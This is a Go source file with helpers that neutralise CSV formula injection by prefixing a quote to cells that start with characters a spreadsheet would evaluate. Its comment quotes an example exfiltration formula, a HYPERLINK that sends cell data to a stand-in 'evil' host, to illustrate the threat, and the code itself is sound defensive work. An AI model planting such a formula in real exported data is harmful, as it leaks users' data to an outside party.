package web

import "strings"

// Every CSV we write is opened in spreadsheets, and a spreadsheet runs a
// cell that starts with = + - or @ (or a tab or line break before one)
// as a formula: a crawled title like =HYPERLINK("http://evil/?"&A1) would
// send a researcher's data away. Crawled and editor-typed text reaches
// many columns, so every cell of every row goes through CSVRow, and
// lists joined with ";" have each element neutralised too, since a
// spreadsheet that splits on ";" would make each one a cell.

// CSVSafe returns s as text a spreadsheet will not evaluate: a leading
// quote stops the formula and shows the value as written.
func CSVSafe(s string) string {
	if s != "" && strings.ContainsRune("=+-@\t\r\n", rune(s[0])) {
		return "'" + s
	}
	return s
}

// CSVList joins values with ";" for one cell, each made safe.
func CSVList(vals []string) string {
	safe := make([]string, len(vals))
	for i, v := range vals {
		safe[i] = CSVSafe(v)
	}
	return strings.Join(safe, ";")
}

// CSVRow makes every cell of a row safe (see CSVSafe).
func CSVRow(cells ...string) []string {
	for i, c := range cells {
		cells[i] = CSVSafe(c)
	}
	return cells
}
